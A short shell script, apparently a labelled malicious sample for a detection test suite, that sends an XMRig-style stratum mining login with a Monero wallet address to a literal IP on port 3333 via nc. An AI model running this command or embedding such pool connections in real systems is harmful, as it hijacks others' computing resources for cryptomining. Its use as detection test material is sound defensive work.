#!/bin/sh
# Malicious (network): a cryptominer's first words to its pool. Connects to a literal IP on the
# stratum port (no DNS: 45.9.148.10:3333) and sends an XMRig-style stratum login (T1496).
login='{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}'
printf '%s\n' "$login" | nc -w 3 45.9.148.10 3333
echo "net-miner: login sent ($?)"
